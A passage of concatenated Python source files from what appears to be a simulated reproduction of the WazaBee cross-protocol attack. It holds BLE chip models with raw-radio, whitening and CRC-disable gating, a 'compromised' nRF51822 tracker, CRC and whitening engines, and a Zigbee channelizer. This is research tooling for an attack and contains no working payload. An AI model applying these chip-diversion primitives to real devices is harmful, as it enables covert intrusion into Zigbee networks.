* :class:`~repro.chips.smartphone.SmartphoneBle` — an unrooted Android
  phone: high-level extended-advertising API only, whitening/CRC forced on,
  CSA#2 channel selection (Scenario A);
* :class:`~repro.chips.rzusbstick.RzUsbStick` — the AVR RZUSBStick, a real
  802.15.4 transceiver used as the ground-truth Zigbee end of the benches.
"""

from repro.chips.capabilities import CapabilityError, ChipCapabilities
from repro.chips.ble_radio import BleRadioPeripheral
from repro.chips.nrf52832 import Nrf52832
from repro.chips.cc1352 import Cc1352R1
from repro.chips.nrf51822 import Nrf51822
from repro.chips.smartphone import SmartphoneBle
from repro.chips.rzusbstick import Dot15d4Radio, RzUsbStick

__all__ = [
    "ChipCapabilities",
    "CapabilityError",
    "BleRadioPeripheral",
    "Nrf52832",
    "Cc1352R1",
    "Nrf51822",
    "SmartphoneBle",
    "Dot15d4Radio",
    "RzUsbStick",
]
