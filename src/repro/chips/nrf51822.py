"""Nordic Semiconductor nRF51822 model — the Gablys Lite BLE tracker.

Scenario B's compromised device (§VI-C).  The nRF51822 predates Bluetooth 5
and has no LE 2M, "which is a key requirement of WazaBee" — but its
proprietary Enhanced ShockBurst mode runs at 2 Mbit/s and is diverted as a
substitute, at the cost of reception quality.  Everything else (arbitrary
tuning, whitening/CRC disable, raw radio access) matches the nRF51 radio
peripheral, the chip whose register-level flexibility started the whole
nRF-diversion tooling lineage.
"""

from __future__ import annotations

from typing import Optional, Tuple

import numpy as np

from repro.chips.ble_radio import BleRadioPeripheral
from repro.chips.capabilities import ChipCapabilities
from repro.radio.medium import RfMedium

__all__ = ["NRF51822_CAPABILITIES", "Nrf51822"]

NRF51822_CAPABILITIES = ChipCapabilities(
    name="nRF51822",
    supports_le_2m=False,
    supports_esb_2m=True,
    arbitrary_frequency=True,
    can_disable_whitening=True,
    can_disable_crc=True,
    raw_radio_access=True,
    cfo_std_hz=40e3,
    esb_snr_cap_db=14.0,
)


class Nrf51822(BleRadioPeripheral):
    """A Gablys Lite tracker reflashed through its exposed SWD pins."""

    def __init__(
        self,
        medium: RfMedium,
        name: str = "nRF51822-tracker",
        position: Tuple[float, float] = (0.0, 0.0),
        tx_power_dbm: float = 0.0,
        rng: Optional[np.random.Generator] = None,
    ):
        super().__init__(
            medium,
            capabilities=NRF51822_CAPABILITIES,
            name=name,
            position=position,
            tx_power_dbm=tx_power_dbm,
            rng=rng,
        )
