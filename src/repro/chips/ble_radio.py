"""Generic BLE radio peripheral model.

Implements the :class:`~repro.core.radio_api.LowLevelRadio` interface in the
style of the nRF RADIO peripheral: the firmware programs frequency, access
address, whitening, CRC and data rate registers, then pushes raw payload
bits to TX or arms RX.  Capability gating (what a given chip's registers
actually allow) comes from :class:`~repro.chips.capabilities.ChipCapabilities`.

The same class also offers the *legitimate* BLE packet path
(:meth:`transmit_pdu` / PDU reception in tests) so chip models double as
ordinary BLE devices.
"""

from __future__ import annotations

from typing import Callable, Optional, Tuple

import numpy as np

from repro.ble.channels import channel_for_frequency, channel_frequency_hz
from repro.ble.crc import ble_crc24_bits
from repro.ble.packets import (
    ADVERTISING_ACCESS_ADDRESS,
    OnAirPacket,
    PhyMode,
    access_address_bits,
    assemble_on_air_bits,
    preamble_bits,
)
from repro.ble.whitening import whiten
from repro.chips.capabilities import CapabilityError, ChipCapabilities
from repro.dsp.gfsk import FskDemodulator, FskModulator, GfskConfig
from repro.dsp.signal import IQSignal
from repro.radio.medium import RfMedium, Transmission
from repro.radio.transceiver import Transceiver
from repro.utils.bits import bytes_to_bits, int_to_bits

__all__ = ["BleRadioPeripheral"]

RawBitsHandler = Callable[[np.ndarray], None]


class BleRadioPeripheral:
    """A BLE 5 radio with register-level control (where capabilities allow)."""

    def __init__(
        self,
        medium: RfMedium,
        capabilities: ChipCapabilities,
        name: Optional[str] = None,
        position: Tuple[float, float] = (0.0, 0.0),
        tx_power_dbm: float = 0.0,
        rng: Optional[np.random.Generator] = None,
        sync_threshold: float = 0.45,
    ):
        self.capabilities = capabilities
        self.name = name or capabilities.name
        self.rng = rng if rng is not None else medium.derive_rng(self.name)
        self.transceiver = Transceiver(
            medium,
            name=self.name,
            position=position,
            bandwidth_hz=2e6,
            tx_power_dbm=tx_power_dbm,
            cfo_std_hz=capabilities.cfo_std_hz,
            rng=self.rng,
        )
        self.sync_threshold = sync_threshold
        # Radio "registers".
        self._symbol_rate = 1e6
        self._esb_mode = False
        self._access_address = ADVERTISING_ACCESS_ADDRESS
        self._whitening_enabled = True
        self._whitening_channel = 37
        self._crc_enabled = True
        self._rx_handler: Optional[RawBitsHandler] = None
        self._rx_max_bits = 0
        # Modems are pure functions of (samples/symbol, symbol rate); keep
        # one of each per rate instead of rebuilding them per packet.
        self._modems: dict = {}

    # ------------------------------------------------------------------
    # LowLevelRadio interface
    # ------------------------------------------------------------------
    def set_frequency(self, frequency_hz: float) -> None:
        if not self.capabilities.raw_radio_access:
            raise CapabilityError(
                f"{self.name}: no register-level access to the synthesiser"
            )
        if not self.capabilities.arbitrary_frequency:
            if channel_for_frequency(frequency_hz) is None:
                raise CapabilityError(
                    f"{self.name}: can only tune BLE channel frequencies, "
                    f"not {frequency_hz / 1e6:.1f} MHz"
                )
        self.transceiver.tune(frequency_hz)
        channel = channel_for_frequency(frequency_hz)
        if channel is not None:
            self._whitening_channel = channel

    def set_data_rate_2m(self) -> None:
        if self.capabilities.supports_le_2m:
            self._symbol_rate = 2e6
            self._esb_mode = False
        elif self.capabilities.supports_esb_2m:
            # Scenario B: no LE 2M, divert the proprietary ESB 2 Mbit/s mode
            # instead, paying a sensitivity penalty.
            self._symbol_rate = 2e6
            self._esb_mode = True
        else:
            raise CapabilityError(f"{self.name}: no 2 Mbit/s physical layer")

    def set_data_rate_1m(self) -> None:
        self._symbol_rate = 1e6
        self._esb_mode = False

    def set_access_address(self, access_address: int) -> None:
        if not self.capabilities.raw_radio_access:
            raise CapabilityError(f"{self.name}: access address not settable")
        if not 0 <= access_address <= 0xFFFFFFFF:
            raise ValueError("access address must be 32-bit")
        self._access_address = access_address

    def set_whitening(self, enabled: bool, channel: Optional[int] = None) -> None:
        if not enabled and not self.capabilities.can_disable_whitening:
            raise CapabilityError(f"{self.name}: whitening cannot be disabled")
        self._whitening_enabled = enabled
        if channel is not None:
            if not 0 <= channel <= 39:
                raise ValueError("whitening channel out of range")
            self._whitening_channel = channel

    def set_crc_enabled(self, enabled: bool) -> None:
        if not enabled and not self.capabilities.can_disable_crc:
            raise CapabilityError(f"{self.name}: CRC cannot be disabled")
        self._crc_enabled = enabled

    @property
    def whitening_enabled(self) -> bool:
        return self._whitening_enabled

    @property
    def whitening_channel(self) -> int:
        return self._whitening_channel

    # -- modem construction -------------------------------------------------
    @property
    def phy_mode(self) -> PhyMode:
        return PhyMode.LE_2M if self._symbol_rate == 2e6 else PhyMode.LE_1M

    def _samples_per_symbol(self) -> int:
        sps = self.transceiver.medium.sample_rate / self._symbol_rate
        if abs(sps - round(sps)) > 1e-9:
            raise ValueError(
                "medium sample rate must be an integer multiple of the "
                f"symbol rate (got {sps})"
            )
        return int(round(sps))

    def _modulator(self) -> FskModulator:
        key = ("mod", self._samples_per_symbol(), self._symbol_rate)
        modem = self._modems.get(key)
        if modem is None:
            config = GfskConfig(
                samples_per_symbol=key[1], modulation_index=0.5, bt=0.5
            )
            modem = self._modems[key] = FskModulator(config, self._symbol_rate)
        return modem

    def _demodulator(self) -> FskDemodulator:
        key = ("demod", self._samples_per_symbol(), self._symbol_rate)
        modem = self._modems.get(key)
        if modem is None:
            config = GfskConfig(
                samples_per_symbol=key[1], modulation_index=0.5, bt=None
            )
            modem = self._modems[key] = FskDemodulator(config, self._symbol_rate)
        return modem

    def warm_tx_path(self) -> None:
        """Prebuild the modulator and its waveform cache for the current
        data rate, so the first transmission pays no setup cost."""
        self._modulator().warm()

    # -- raw TX ------------------------------------------------------------
    def send_raw_bits(self, payload_bits: np.ndarray) -> Transmission:
        if not self.capabilities.raw_radio_access:
            raise CapabilityError(f"{self.name}: no raw transmit path")
        payload = np.asarray(payload_bits, dtype=np.uint8)
        if self._whitening_enabled:
            payload = whiten(payload, self._whitening_channel)
        bits = np.concatenate(
            [
                preamble_bits(self._access_address, self.phy_mode),
                access_address_bits(self._access_address),
                payload,
            ]
        )
        if self._crc_enabled:
            raise CapabilityError(
                f"{self.name}: raw bit transmission requires CRC disabled"
            )
        signal = self._modulator().modulate(bits)
        return self.transceiver.transmit(signal)

    # -- raw RX ---------------------------------------------------------------
    def arm_receiver(self, max_payload_bits: int, handler: RawBitsHandler) -> None:
        if not self.capabilities.raw_radio_access:
            raise CapabilityError(f"{self.name}: no raw receive path")
        self._rx_handler = handler
        self._rx_max_bits = max_payload_bits
        self.transceiver.start_rx(self._on_capture)

    def disarm_receiver(self) -> None:
        self._rx_handler = None
        self.transceiver.stop_rx()

    def _on_capture(self, capture: IQSignal, _tx: Transmission) -> None:
        if self._rx_handler is None:
            return
        demod = self._demodulator()
        if self._esb_mode:
            # The ESB receive chain is modelled as a noisier front end.
            capture = self._esb_degrade(capture)
        sync_bits = access_address_bits(self._access_address)
        result = demod.demodulate_packet(
            capture, sync_bits, self._rx_max_bits, threshold=self.sync_threshold
        )
        if result is None:
            return
        bits, _sync = result
        if self._whitening_enabled:
            bits = whiten(bits, self._whitening_channel)
        if self._crc_enabled and not self._crc_passes(bits):
            # §VI-B: "received frames including a wrong CRC are dropped at
            # the controller level and are not delivered to the host" — the
            # reason the reception primitive needs the CRC check disabled.
            return
        self._rx_handler(bits)

    @staticmethod
    def _crc_passes(bits: np.ndarray) -> bool:
        """Hardware CRC filter: length-framed PDU followed by CRC-24."""
        from repro.ble.packets import parse_pdu_bits

        try:
            _pdu, crc_ok = parse_pdu_bits(bits, channel=0, whitening=False)
        except ValueError:
            return False
        return crc_ok

    def _esb_degrade(self, capture: IQSignal) -> IQSignal:
        # Cap the effective SNR of the fallback receive chain by injecting
        # noise proportional to the capture power.
        extra_power = capture.power() * 10.0 ** (
            -self.capabilities.esb_snr_cap_db / 10.0
        )
        noise = np.sqrt(extra_power / 2.0) * (
            self.rng.standard_normal(len(capture))
            + 1j * self.rng.standard_normal(len(capture))
        )
        return IQSignal(
            capture.samples + noise, capture.sample_rate, capture.center_frequency
        )

    # ------------------------------------------------------------------
    # Legitimate BLE packet path
    # ------------------------------------------------------------------
    def transmit_pdu(
        self,
        pdu: bytes,
        channel: int,
        phy: Optional[PhyMode] = None,
        access_address: int = ADVERTISING_ACCESS_ADDRESS,
    ) -> Transmission:
        """Send a well-formed BLE packet (whitened, CRC appended)."""
        phy = phy or self.phy_mode
        self.transceiver.tune(channel_frequency_hz(channel))
        self._symbol_rate = phy.symbol_rate
        packet = assemble_on_air_bits(
            pdu,
            channel=channel,
            phy=phy,
            access_address=access_address,
            whitening=True,
            include_crc=True,
        )
        signal = self._modulator().modulate(packet.bits)
        return self.transceiver.transmit(signal)
