"""Generic bit-serial CRC engine.

Both radio standards in this project define their CRCs at the bit level, in
transmission order (LSB first within each byte):

* BLE uses a 24-bit CRC with polynomial
  ``x^24 + x^10 + x^9 + x^6 + x^4 + x^3 + x + 1`` seeded per-context
  (``0x555555`` for advertising channels);
* IEEE 802.15.4 uses the 16-bit ITU-T CRC ``x^16 + x^12 + x^5 + 1`` with a
  zero seed, transmitted least-significant byte first.

:meth:`CrcEngine.compute_bits` is the deliberately bit-serial, auditable
transcription of the shift register.  Byte-aligned callers go through
:meth:`CrcEngine.compute`, which runs a 256-entry table transform derived
from (and property-tested against) the bit-serial reference — the FCS check
sits on the reception hot path, once per decoded frame.
"""

from __future__ import annotations

import numpy as np

from repro.utils.bits import as_bit_array, bytes_to_bits

__all__ = ["CrcEngine"]

#: Bit-reversal of every byte value (b0..b7 -> b7..b0).
_REV8 = [
    int(f"{byte:08b}"[::-1], 2) for byte in range(256)
]


class CrcEngine:
    """A configurable serial CRC over bits in transmission order.

    Parameters
    ----------
    width:
        Register width in bits.
    polynomial:
        Generator polynomial with the top (x^width) term implicit, expressed
        with bit ``i`` standing for the x^i term.
    init:
        Initial register value.
    reflect_output:
        If true, the final register is bit-reversed before being returned.
        802.15.4 effectively transmits the register LSB-first which we model
        via :meth:`digest_bits`.
    xor_out:
        Value XORed into the register at the end.
    """

    def __init__(
        self,
        width: int,
        polynomial: int,
        init: int = 0,
        reflect_output: bool = False,
        xor_out: int = 0,
    ):
        if width <= 0:
            raise ValueError("width must be positive")
        self.width = width
        self.polynomial = polynomial & ((1 << width) - 1)
        self.init = init & ((1 << width) - 1)
        self.reflect_output = reflect_output
        self.xor_out = xor_out & ((1 << width) - 1)
        self._table = self._build_table() if width >= 8 else None

    # -- core ----------------------------------------------------------------
    def compute_bits(self, bits) -> int:
        """Run the register over *bits* (already in transmission order)."""
        arr = as_bit_array(bits)
        reg = self.init
        top = 1 << (self.width - 1)
        mask = (1 << self.width) - 1
        for bit in arr:
            feedback = ((reg & top) != 0) ^ bool(bit)
            reg = (reg << 1) & mask
            if feedback:
                reg ^= self.polynomial
        if self.reflect_output:
            reg = int(f"{reg:0{self.width}b}"[::-1], 2)
        return reg ^ self.xor_out

    def _build_table(self):
        """256-entry transform of eight zero-input register steps.

        ``table[j]`` is the register after clocking ``j << (width-8)``
        through eight serial steps; by linearity over GF(2) a whole input
        byte then reduces to one lookup in :meth:`compute`.
        """
        top = 1 << (self.width - 1)
        mask = (1 << self.width) - 1
        table = []
        for j in range(256):
            reg = j << (self.width - 8)
            for _ in range(8):
                if reg & top:
                    reg = ((reg << 1) & mask) ^ self.polynomial
                else:
                    reg = (reg << 1) & mask
            table.append(reg)
        return table

    def compute(self, data: bytes) -> int:
        """CRC of *data* transmitted LSB-first per byte (radio convention).

        Byte-wise table-driven; bit-exact with
        ``compute_bits(bytes_to_bits(data, order="lsb"))``.
        """
        if self._table is None:
            return self.compute_bits(bytes_to_bits(data, order="lsb"))
        table = self._table
        shift = self.width - 8
        mask = (1 << self.width) - 1
        reg = self.init
        for byte in data:
            # LSB-first transmission == MSB-first entry of the reversed
            # byte, folded into the register's top byte.
            idx = ((reg >> shift) & 0xFF) ^ _REV8[byte]
            reg = ((reg << 8) & mask) ^ table[idx]
        if self.reflect_output:
            reg = int(f"{reg:0{self.width}b}"[::-1], 2)
        return reg ^ self.xor_out

    # -- helpers ---------------------------------------------------------------
    def digest_bits(self, data: bytes, order: str = "msb") -> np.ndarray:
        """CRC of *data* as a bit array in transmission order.

        ``order`` selects whether the register is shifted out MSB-first
        (BLE's convention for its CRC24) or LSB-first.
        """
        value = self.compute(data)
        width = self.width
        if order == "msb":
            positions = np.arange(width - 1, -1, -1)
        elif order == "lsb":
            positions = np.arange(width)
        else:
            raise ValueError("order must be 'msb' or 'lsb'")
        return ((value >> positions) & 1).astype(np.uint8)

    def verify(self, data: bytes, expected: int) -> bool:
        """Check *data* against an *expected* CRC value."""
        return self.compute(data) == expected
