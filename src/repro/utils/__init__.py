"""Low-level helpers shared by every other subpackage.

The radio stacks in this repository shuttle data between three domains —
bytes (protocol payloads), bit arrays (what modulators consume) and chip
arrays (after DSSS spreading).  :mod:`repro.utils.bits` provides the
conversions; :mod:`repro.utils.crc` and :mod:`repro.utils.lfsr` provide the
generic integrity/whitening engines that the BLE and 802.15.4 layers
specialise.
"""

from repro.utils.bits import (
    BitArray,
    bits_to_bytes,
    bits_to_int,
    bytes_to_bits,
    hamming_distance,
    int_to_bits,
    parse_bitstring,
)
from repro.utils.crc import CrcEngine
from repro.utils.lfsr import GaloisLfsr

__all__ = [
    "BitArray",
    "bits_to_bytes",
    "bits_to_int",
    "bytes_to_bits",
    "hamming_distance",
    "int_to_bits",
    "parse_bitstring",
    "CrcEngine",
    "GaloisLfsr",
]
