"""Generic Galois/Fibonacci linear-feedback shift registers.

BLE data whitening (Bluetooth Core spec vol 6, part B, §3.2) is a 7-bit
Fibonacci LFSR with polynomial ``x^7 + x^4 + 1``, seeded from the channel
index.  The engine below is general enough to express that and the PRNGs used
elsewhere in the simulation, while staying a direct transcription of a shift
register diagram.
"""

from __future__ import annotations

from typing import Sequence

import numpy as np

from repro.utils.bits import as_bit_array

__all__ = ["GaloisLfsr", "FibonacciLfsr"]


class FibonacciLfsr:
    """Fibonacci LFSR: output taken from the last stage, feedback is the XOR
    of the tapped stages.

    ``taps`` lists the stage indices (1-based, as in spec diagrams) whose
    values feed back into stage 1.  Position ``degree`` is the output stage.
    """

    def __init__(self, degree: int, taps: Sequence[int], state: int):
        if degree <= 0:
            raise ValueError("degree must be positive")
        if not state or state >> degree:
            raise ValueError(
                f"state must be a non-zero {degree}-bit value, got {state:#x}"
            )
        bad = [t for t in taps if not 1 <= t <= degree]
        if bad:
            raise ValueError(f"tap positions out of range: {bad}")
        self.degree = degree
        self.taps = tuple(sorted(set(taps)))
        # stage 1 is bit degree-1, stage ``degree`` is bit 0, so that the
        # integer reads like the spec diagram left-to-right.
        self.state = state

    def _stage(self, position: int) -> int:
        return (self.state >> (self.degree - position)) & 1

    def next_bit(self) -> int:
        """Clock once; return the output bit (last stage before shifting)."""
        out = self._stage(self.degree)
        feedback = 0
        for tap in self.taps:
            feedback ^= self._stage(tap)
        self.state = ((self.state >> 1) | (feedback << (self.degree - 1))) & (
            (1 << self.degree) - 1
        )
        return out

    def stream(self, count: int) -> np.ndarray:
        """Generate *count* output bits."""
        return np.fromiter(
            (self.next_bit() for _ in range(count)), dtype=np.uint8, count=count
        )

    def whiten(self, bits) -> np.ndarray:
        """XOR a bit array with the register's output stream.

        Whitening and de-whitening are the same operation (XOR with the same
        stream); callers reset the register state between frames.
        """
        arr = as_bit_array(bits)
        return arr ^ self.stream(arr.size)


class GaloisLfsr:
    """Galois-form LFSR, convenient for polynomial-style definitions.

    ``polynomial`` has bit ``i`` set for the x^i term, the x^degree term
    implicit.  Output is the register LSB.
    """

    def __init__(self, degree: int, polynomial: int, state: int):
        if degree <= 0:
            raise ValueError("degree must be positive")
        if not state or state >> degree:
            raise ValueError(
                f"state must be a non-zero {degree}-bit value, got {state:#x}"
            )
        self.degree = degree
        self.polynomial = polynomial & ((1 << degree) - 1)
        self.state = state

    def next_bit(self) -> int:
        out = self.state & 1
        self.state >>= 1
        if out:
            self.state ^= self.polynomial >> 1 | (1 << (self.degree - 1))
        return out

    def stream(self, count: int) -> np.ndarray:
        return np.fromiter(
            (self.next_bit() for _ in range(count)), dtype=np.uint8, count=count
        )

    def whiten(self, bits) -> np.ndarray:
        arr = as_bit_array(bits)
        return arr ^ self.stream(arr.size)
