"""Bit-array helpers.

All bit streams in this project are numpy ``uint8`` arrays whose elements are
0 or 1.  Radio protocols disagree about bit order inside a byte: BLE and
IEEE 802.15.4 both transmit each byte *least-significant bit first*, so the
default order everywhere is ``"lsb"``; ``"msb"`` is available for the places
(e.g. human-readable PN-sequence tables) where the most-significant-bit-first
notation of the paper is more natural.
"""

from __future__ import annotations

from typing import Iterable, Sequence, Union

import numpy as np

BitsLike = Union[Sequence[int], np.ndarray, str]

__all__ = [
    "BitArray",
    "bytes_to_bits",
    "bits_to_bytes",
    "int_to_bits",
    "bits_to_int",
    "parse_bitstring",
    "hamming_distance",
    "pack_bits",
]


def _check_order(order: str) -> None:
    if order not in ("lsb", "msb"):
        raise ValueError(f"bit order must be 'lsb' or 'msb', got {order!r}")


def as_bit_array(bits: BitsLike) -> np.ndarray:
    """Coerce *bits* to a ``uint8`` ndarray of 0/1 values.

    Accepts sequences of ints, numpy arrays, or strings such as
    ``"1101 0011"`` (whitespace is ignored).
    """
    if isinstance(bits, str):
        return parse_bitstring(bits)
    arr = np.asarray(bits, dtype=np.uint8)
    if arr.ndim != 1:
        raise ValueError(f"bit array must be one-dimensional, got shape {arr.shape}")
    if arr.size and arr.max(initial=0) > 1:
        raise ValueError("bit array may only contain 0 and 1")
    return arr


def parse_bitstring(text: str) -> np.ndarray:
    """Parse a human-readable bit string (``"11011001 11000011"``)."""
    cleaned = "".join(text.split())
    if not set(cleaned) <= {"0", "1"}:
        raise ValueError(f"invalid characters in bit string {text!r}")
    return np.frombuffer(cleaned.encode("ascii"), dtype=np.uint8) - ord("0")


def bytes_to_bits(data: bytes, order: str = "lsb") -> np.ndarray:
    """Expand *data* into a bit array, one byte → eight bits."""
    _check_order(order)
    raw = np.frombuffer(bytes(data), dtype=np.uint8)
    bitorder = "little" if order == "lsb" else "big"
    return np.unpackbits(raw, bitorder=bitorder)


def bits_to_bytes(bits: BitsLike, order: str = "lsb") -> bytes:
    """Pack a bit array back into bytes.  Length must be a multiple of 8."""
    _check_order(order)
    arr = as_bit_array(bits)
    if arr.size % 8:
        raise ValueError(f"bit count {arr.size} is not a multiple of 8")
    bitorder = "little" if order == "lsb" else "big"
    return np.packbits(arr, bitorder=bitorder).tobytes()


def pack_bits(bits: BitsLike, order: str = "lsb") -> bytes:
    """Like :func:`bits_to_bytes` but zero-pads the tail to a byte boundary."""
    arr = as_bit_array(bits)
    pad = (-arr.size) % 8
    if pad:
        arr = np.concatenate([arr, np.zeros(pad, dtype=np.uint8)])
    return bits_to_bytes(arr, order=order)


def int_to_bits(value: int, width: int, order: str = "lsb") -> np.ndarray:
    """Encode *value* as *width* bits."""
    _check_order(order)
    if value < 0:
        raise ValueError("value must be non-negative")
    if width < 0:
        raise ValueError("width must be non-negative")
    if value >> width:
        raise ValueError(f"value {value:#x} does not fit in {width} bits")
    positions = np.arange(width)
    if order == "msb":
        positions = positions[::-1]
    return ((value >> positions) & 1).astype(np.uint8)


def bits_to_int(bits: BitsLike, order: str = "lsb") -> int:
    """Decode a bit array into an integer."""
    _check_order(order)
    arr = as_bit_array(bits)
    if order == "lsb":
        weights = 1 << np.arange(arr.size, dtype=object)
    else:
        weights = 1 << np.arange(arr.size - 1, -1, -1, dtype=object)
    return int(sum(int(b) * int(w) for b, w in zip(arr, weights)))


def hamming_distance(a: BitsLike, b: BitsLike) -> int:
    """Number of positions where two equal-length bit arrays differ."""
    arr_a = as_bit_array(a)
    arr_b = as_bit_array(b)
    if arr_a.size != arr_b.size:
        raise ValueError(
            f"length mismatch: {arr_a.size} vs {arr_b.size} bits"
        )
    return int(np.count_nonzero(arr_a != arr_b))


class BitArray:
    """A small convenience wrapper over a 0/1 ``uint8`` ndarray.

    The DSP layer works on raw ndarrays for speed; protocol code uses
    :class:`BitArray` when readability matters (slicing frames into named
    fields, concatenating headers, ...).
    """

    __slots__ = ("_bits",)

    def __init__(self, bits: BitsLike = ()):
        self._bits = as_bit_array(bits)

    # -- constructors -----------------------------------------------------
    @classmethod
    def from_bytes(cls, data: bytes, order: str = "lsb") -> "BitArray":
        return cls(bytes_to_bits(data, order=order))

    @classmethod
    def from_int(cls, value: int, width: int, order: str = "lsb") -> "BitArray":
        return cls(int_to_bits(value, width, order=order))

    @classmethod
    def concat(cls, parts: Iterable["BitArray"]) -> "BitArray":
        arrays = [p.ndarray for p in parts]
        if not arrays:
            return cls()
        return cls(np.concatenate(arrays))

    # -- conversions ------------------------------------------------------
    @property
    def ndarray(self) -> np.ndarray:
        return self._bits

    def to_bytes(self, order: str = "lsb") -> bytes:
        return bits_to_bytes(self._bits, order=order)

    def to_int(self, order: str = "lsb") -> int:
        return bits_to_int(self._bits, order=order)

    def to_string(self) -> str:
        return "".join(str(int(b)) for b in self._bits)

    # -- sequence protocol --------------------------------------------------
    def __len__(self) -> int:
        return int(self._bits.size)

    def __getitem__(self, index):
        if isinstance(index, slice):
            return BitArray(self._bits[index])
        return int(self._bits[index])

    def __iter__(self):
        return (int(b) for b in self._bits)

    def __add__(self, other: "BitArray") -> "BitArray":
        return BitArray(np.concatenate([self._bits, as_bit_array(other._bits)]))

    def __eq__(self, other) -> bool:
        if isinstance(other, BitArray):
            return self._bits.size == other._bits.size and bool(
                np.array_equal(self._bits, other._bits)
            )
        return NotImplemented

    def __hash__(self) -> int:
        return hash((self._bits.size, self._bits.tobytes()))

    def __repr__(self) -> str:
        shown = self.to_string()
        if len(shown) > 64:
            shown = shown[:61] + "..."
        return f"BitArray({shown!r})"

    # -- operations ---------------------------------------------------------
    def xor(self, other: "BitArray") -> "BitArray":
        if len(self) != len(other):
            raise ValueError("xor requires equal lengths")
        return BitArray(self._bits ^ other._bits)

    def invert(self) -> "BitArray":
        return BitArray(self._bits ^ 1)

    def hamming(self, other: "BitArray") -> int:
        return hamming_distance(self._bits, other._bits)
