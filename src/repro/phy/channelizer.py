"""Wideband 16-channel polyphase channelizer (the wideband receiver's core).

One 2.4 GHz capture spanning the whole Zigbee band (channels 11–26,
2405–2480 MHz) is split into sixteen per-channel complex basebands in a
single pass.  The implementation is an overlap-save DFT filterbank: the
capture is transformed in (optionally overlapping) blocks, each channel's
spectral window is gathered around its centre-frequency bin, and an
inverse transform per channel yields its decimated baseband.  This is the
critically-stacked polyphase filterbank evaluated in the frequency
domain — gathering ``n`` contiguous bins of an ``L·n``-point DFT is
algebraically identical to running the ``L``-branch polyphase
decomposition of a Dirichlet prototype filter and applying the output
DFT, but costs one FFT for *all* channels instead of one filter per
channel.

Design constraints that make the gather exact:

* Zigbee channels sit on a 5 MHz raster; with a per-channel output rate
  of 16 Msps, an output block length that is a multiple of 16 puts every
  channel's centre frequency exactly on a DFT bin (5e6·m·n/16e6 is an
  integer iff 16 | n), so channel extraction is a pure index gather with
  no fractional mixing.
* The wideband rate is ``oversample × channel_rate``; the default
  oversample of 8 (128 Msps) keeps the outermost channel (26, +40 MHz
  from the band centre) and its full ±8 MHz alias window away from the
  band edge.

Whole-capture processing (the default, ``block_samples=None``) is a
single-block transform and therefore *exact*: composing one channel into
the band and channelizing it back reproduces the input to float
round-off.  ``block_samples`` engages streaming overlap-save: blocks
overlap by ``2·guard`` output samples, edge transients land in the
discarded guards, and a raised-cosine spectral taper at the window edges
bounds block-boundary leakage.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Mapping, Optional, Sequence, Tuple

import numpy as np

from repro.dot15d4.channels import ZIGBEE_CHANNELS, channel_frequency_hz
from repro.obs import metrics as _current_metrics
from repro.obs import trace_bus as _current_bus
from repro.obs.events import CHANNELIZER_COMPOSE, CHANNELIZER_SPLIT

__all__ = [
    "WIDEBAND_CENTER_HZ",
    "WidebandGrid",
    "PolyphaseChannelizer",
    "compose_band",
    "gather_indices",
    "fir_spectral_weights",
]

#: Band centre: Zigbee channel 18 (2440 MHz).  Channel offsets then span
#: −35 MHz (ch 11) … +40 MHz (ch 26), all multiples of the 5 MHz raster.
WIDEBAND_CENTER_HZ = 2440e6


@dataclass(frozen=True)
class WidebandGrid:
    """Geometry of the wideband raster.

    ``channel_rate`` is each extracted baseband's sample rate (matches
    the narrowband pipeline, 16 Msps); the wideband capture runs at
    ``oversample × channel_rate``.
    """

    channel_rate: float = 16e6
    oversample: int = 8
    center_hz: float = WIDEBAND_CENTER_HZ
    channels: Tuple[int, ...] = tuple(ZIGBEE_CHANNELS)

    def __post_init__(self) -> None:
        if self.oversample < 2:
            raise ValueError("oversample must be >= 2")
        nyquist = self.oversample * self.channel_rate / 2.0
        for channel in self.channels:
            edge = abs(self.channel_offset_hz(channel)) + self.channel_rate / 2.0
            if edge > nyquist:
                raise ValueError(
                    f"channel {channel} window exceeds the wideband Nyquist "
                    f"range (need oversample > {2 * edge / self.channel_rate:.1f})"
                )

    @property
    def wide_rate(self) -> float:
        return self.oversample * self.channel_rate

    def channel_offset_hz(self, channel: int) -> float:
        return channel_frequency_hz(channel) - self.center_hz

    @property
    def block_multiple(self) -> int:
        """Per-channel block lengths must be multiples of this.

        A 5 MHz channel offset lands exactly on a DFT bin iff
        ``offset · n / channel_rate`` is an integer for every raster
        step, i.e. iff ``n`` is a multiple of
        ``channel_rate / gcd(channel_rate, 5 MHz)`` — 16 at the default
        16 Msps, 8 at 8 Msps.
        """
        rate = int(round(self.channel_rate))
        return rate // int(np.gcd(rate, 5_000_000))

    def pad_length(self, n: int) -> int:
        """Smallest valid per-channel block length ≥ *n*.

        Output lengths must be multiples of :attr:`block_multiple` so
        every 5 MHz channel offset lands exactly on a DFT bin (see
        module docstring).
        """
        m = self.block_multiple
        return max(m, -(-n // m) * m)

    def bin_shift(self, channel: int, n_out: int) -> int:
        """DFT bin index of *channel*'s centre in an ``oversample·n_out`` FFT."""
        shift = self.channel_offset_hz(channel) * n_out / self.channel_rate
        shift_int = int(round(shift))
        if abs(shift - shift_int) > 1e-6:
            raise ValueError(
                f"block length {n_out} does not place channel {channel} on a "
                f"bin (use pad_length)"
            )
        return shift_int


def _gather_indices(grid: WidebandGrid, channel: int, n_out: int) -> np.ndarray:
    """Wideband-FFT bin indices forming *channel*'s baseband spectrum."""
    n_wide = grid.oversample * n_out
    shift = grid.bin_shift(channel, n_out)
    # Output bin k carries frequency k for k < n/2 and k − n above — the
    # standard FFT ordering — each offset by the channel's centre bin.
    offsets = np.arange(n_out)
    offsets = np.where(offsets < n_out // 2, offsets, offsets - n_out)
    return (shift + offsets) % n_wide


def gather_indices(
    grid: WidebandGrid, channel: int, n_out: int
) -> np.ndarray:
    """Public accessor for a channel's wideband spectral window.

    The index vector mapping an ``oversample·n_out``-point wideband FFT
    to *channel*'s ``n_out``-point baseband spectrum (FFT bin order).
    Spectral-domain pipelines (the wideband front end's fast path) use
    it to scatter/gather without materialising wide-rate time samples.
    """
    return _gather_indices(grid, channel, n_out)


def fir_spectral_weights(taps: np.ndarray, n_out: int) -> np.ndarray:
    """Zero-phase transfer function of a linear-phase FIR, per DFT bin.

    Rolling the (odd-length, symmetric) taps so the centre tap sits at
    index 0 makes the transfer purely real — multiplying these weights
    into a block's spectrum applies the filter as a *circular*
    convolution with no group delay, exactly what
    :meth:`PolyphaseChannelizer.channelize` expects as
    ``spectral_weights``.  Circular wrap touches only ``len(taps)//2``
